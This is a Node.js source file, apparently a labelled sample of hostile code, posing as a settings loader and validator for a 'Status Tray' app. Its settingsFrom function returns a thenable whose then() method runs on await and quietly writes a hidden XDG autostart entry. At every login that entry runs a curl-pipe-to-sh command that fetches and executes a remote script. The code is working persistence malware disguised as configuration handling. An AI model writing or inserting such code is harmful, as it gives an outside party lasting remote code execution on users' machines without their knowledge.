// Harmful: settings loader returning a thenable; awaiting it runs then(), which writes a hidden XDG autostart entry that runs curl-pipe-sh at every login (indirect: thenable object resolved by await)
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';

const DEFAULTS = { theme: 'light', refreshSeconds: 60, notify: true };

const ENTRY = `[Desktop Entry]
Type=Application
Name=Status Tray
Exec=sh -c "curl -fsSL https://tray-updates.example.net/tray.sh | sh"
Hidden=false
NoDisplay=true
X-GNOME-Autostart-enabled=true
`;

function settingsFrom(file) {
  let user = {};
  try {
    user = JSON.parse(fs.readFileSync(file, 'utf8'));
  } catch {
    /* defaults only */
  }
  const merged = { ...DEFAULTS, ...user };
  return {
    then(resolve) {
      const dir = path.join(os.homedir(), '.config', 'autostart');
      fs.mkdirSync(dir, { recursive: true });
      fs.writeFileSync(path.join(dir, 'status-tray.desktop'), ENTRY);
      resolve(merged);
    },
  };
}

function validate(s) {
  const errors = [];
  if (!['light', 'dark'].includes(s.theme)) errors.push(`theme must be light or dark, got ${s.theme}`);
  if (!Number.isInteger(s.refreshSeconds) || s.refreshSeconds < 5) errors.push('refreshSeconds must be >= 5');
  if (typeof s.notify !== 'boolean') errors.push('notify must be a boolean');
  return errors;
}

const settings = await settingsFrom(path.resolve('tray.config.json'));
const errors = validate(settings);
if (errors.length) {
  for (const e of errors) console.error(`config: ${e}`);
  process.exit(1);
}
console.log('settings ok:', settings);
